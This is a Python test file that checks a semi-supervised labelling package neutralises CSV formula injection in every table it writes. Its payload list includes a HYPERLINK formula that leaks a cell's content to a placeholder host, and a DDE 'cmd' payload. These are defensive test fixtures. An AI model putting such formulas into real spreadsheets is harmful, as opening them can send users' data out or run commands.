"""Hostile cells through every writer of a table a person may open: one list of payloads.

OWASP's "CSV Injection" guidance: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return is run as a formula by spreadsheets, so such cells (and headers) get a
leading ``'``. Each writer gets the same payloads (ids, class names, cell values, column
names), its output is read back with Python's ``csv`` module (no spreadsheet logic), and:

- no cell or header starts with a formula character, except plain numbers (``-3.5``);
- ``semisup._escape.restore_cell`` of each cell gives the payload back exactly (quotes,
  delimiters, line breaks and a lone CR survive: CRLF line ends, RFC 4180 quoting);
- ``raw`` output and Parquet keep the payloads as they are.

The writers: ``semisup._tables_out.write_table`` (pseudo-labels, the annotator sheet, the
study's labels_added.csv), ``ChunkedTableWriter`` (predictions), and end to end ``semisup
plan`` (label_next.csv), ``semisup add-labels`` (labels_added.csv, read back exactly),
``semisup fit --pseudo-labels`` and ``semisup predict`` on a study whose class names and row
ids are payloads.
"""

from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
import pytest

from semisup import cli
from semisup._escape import FORMULA_PREFIXES, restore_cell
from semisup._tables_out import ChunkedTableWriter, write_table

#: The shared payloads (OWASP CSV-injection examples and the cells that break naive CSV).
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "a,b;c\td",
    'say "hi"',
    "two\nlines",
    "-3.5",
    "+7",
    "plain",
]
#: Row ids for the end-to-end study: the payloads without leading white space (the table
#: reader strips it from ids, so "\t=1+1" and "=1+1" would be one id there).
ID_PAYLOADS = [p for p in PAYLOADS if p == p.lstrip()]
#: Class names for the end-to-end study (three payloads a label column can hold).
CLASSES = ['=HYPERLINK("http://example.invalid","x")', "@SUM(A1:A2)", "+1+1"]


def _plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.strip() == text


def _read_csv_cells(path, delimiter=","):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def _assert_inert(rows):
    for row in rows:
        for cell in row:
            if cell and cell[0] in FORMULA_PREFIXES:
                assert _plain_number(cell), repr(cell)


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"row_id": PAYLOADS, "predicted": PAYLOADS[::-1],
                         "proba_" + PAYLOADS[1]: np.linspace(0, 1, len(PAYLOADS)),
                         PAYLOADS[5]: PAYLOADS, "n": np.arange(len(PAYLOADS))})


@pytest.mark.parametrize("name", ["t.csv", "t.tsv"])
def test_write_table_neutralises_and_round_trips(tmp_path, name):
    frame = _frame()
    write_table(frame, tmp_path / name, header_prefixes=("proba_",))
    rows = _read_csv_cells(tmp_path / name, "\t" if name.endswith(".tsv") else ",")
    _assert_inert(rows)
    header, body = rows[0], rows[1:]
    assert header[2] == "proba_'" + PAYLOADS[1] and header[3] == "'" + PAYLOADS[5]
    assert [restore_cell(r[0]) for r in body] == PAYLOADS
    assert [restore_cell(r[3]) for r in body] == PAYLOADS
    assert [int(r[4]) for r in body] == list(range(len(PAYLOADS)))  # numbers stay numbers


def test_write_table_raw_and_parquet_keep_the_payloads(tmp_path):
    frame = _frame()
    write_table(frame, tmp_path / "raw.csv", raw=True)
    rows = _read_csv_cells(tmp_path / "raw.csv")
    assert [r[0] for r in rows[1:]] == PAYLOADS and rows[0][3] == PAYLOADS[5]
    write_table(frame, tmp_path / "t.parquet")
    back = pd.read_parquet(tmp_path / "t.parquet")
    assert back["row_id"].tolist() == PAYLOADS and PAYLOADS[5] in back.columns


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_chunked_writer_neutralises_every_chunk(fmt):
    frame = _frame()
    buffer = io.BytesIO()
    writer = ChunkedTableWriter(buffer, fmt, header_prefixes=("proba_",))
    for start in range(0, len(frame), 5):  # several chunks, one header
        writer.write(frame.iloc[start:start + 5])
    writer.close()
    rows = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"), newline=""),
                           delimiter="\t" if fmt == "tsv" else ","))
    _assert_inert(rows)
    assert rows[0][2] == "proba_'" + PAYLOADS[1]
    assert [restore_cell(r[0]) for r in rows[1:]] == PAYLOADS
    assert [restore_cell(r[1]) for r in rows[1:]] == PAYLOADS[::-1]


# -- end to end ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_study(tmp_path_factory):
    """A study on scikit-learn's wine table (Forina et al., UCI) whose classes are payloads
    and whose unlabeled rows carry payload ids."""
    from sklearn.datasets import load_wine

    root = tmp_path_factory.mktemp("hostile")
    X, y = load_wine(return_X_y=True, as_frame=True)
    frame = X.iloc[:, :6].copy()
    frame["kind"] = np.asarray(CLASSES, dtype=object)[y]
    hidden = np.random.default_rng(1).random(len(frame)) < 0.35
    hidden[: len(ID_PAYLOADS)] = True
    frame.loc[hidden, "kind"] = ""
    ids = [f"r{i}" for i in range(len(frame))]
    ids[: len(ID_PAYLOADS)] = ID_PAYLOADS
    frame.insert(0, "rid", ids)
    frame.to_csv(root / "t.csv", index=False)
    study = root / "study"
    assert cli.main(["study", str(root / "t.csv"), "--label-column", "kind", "--id-column", "rid",
                     "--out", str(study), "--methods", "supervised-logreg", "--budgets",
                     "10,30", "--repeats", "2", "--trials", "1", "--jobs", "1", "-q"]) == 0
    return root, study


@pytest.mark.slow
def test_every_cli_writer_neutralises_payload_ids_and_classes(hostile_study, tmp_path):
    root, study = hostile_study
    code = cli.main(["plan", str(study), "--target", "accuracy=0.5", "--cost-per-label", "1",
                     "--next", "200", "-q"])
    assert code in (0, 3)
    sheet = _read_csv_cells(study / "label_next.csv")
    _assert_inert(sheet)
    ids = {restore_cell(r[sheet[0].index("row_id")]) for r in sheet[1:]}
    assert set(ID_PAYLOADS) <= ids

    assert cli.main(["fit", str(study), "--method", "supervised-logreg", "--out",
                     str(tmp_path / "model"), "--pseudo-labels", str(tmp_path / "pool.csv"),
                     "-q"]) == 0
    pool = _read_csv_cells(tmp_path / "pool.csv")
    _assert_inert(pool)
    assert {restore_cell(h[len("proba_"):]) for h in pool[0] if h.startswith("proba_")} \
        == set(CLASSES)
    assert {restore_cell(r[1]) for r in pool[1:]} <= set(CLASSES)
    assert set(ID_PAYLOADS) <= {restore_cell(r[0]) for r in pool[1:]}

    new = pd.read_csv(root / "t.csv", dtype={"rid": str}, keep_default_na=False).drop(
        columns=["kind"])
    new.to_csv(tmp_path / "new.csv", index=False)
    for name, raw in (("p.csv", []), ("p.tsv", []), ("raw.csv", ["--raw-cells"])):
        assert cli.main(["predict", str(tmp_path / "model"), str(tmp_path / "new.csv"),
                         "--out", str(tmp_path / name), "-q", *raw]) == 0
        rows = _read_csv_cells(tmp_path / name, "\t" if name.endswith(".tsv") else ",")
        got = [r[0] for r in rows[1:]]
        if raw:
            assert got[: len(ID_PAYLOADS)] == ID_PAYLOADS  # exactly as given, for machines
        else:
            _assert_inert(rows)
            assert [restore_cell(v) for v in got[: len(ID_PAYLOADS)]] == ID_PAYLOADS
            assert {restore_cell(r[1]) for r in rows[1:]} <= set(CLASSES)

    # the annotator fills in the payload rows (typing the class as the sheet shows it, quoted)
    returned = pd.read_csv(study / "label_next.csv", dtype=str, keep_default_na=False)
    mine = returned["row_id"].map(restore_cell).isin(ID_PAYLOADS)
    returned.loc[mine, "kind"] = "'" + CLASSES[0]
    returned.to_csv(tmp_path / "returned.csv", index=False)
    assert cli.main(["add-labels", str(study), str(tmp_path / "returned.csv"), "-q"]) == 0
    added = _read_csv_cells(study / "labels_added.csv")
    _assert_inert(added)
    from semisup.study._rounds import read_added_labels

    back = read_added_labels(study)
    assert set(back.row_ids) == set(ID_PAYLOADS) and set(back.labels) == {CLASSES[0]}
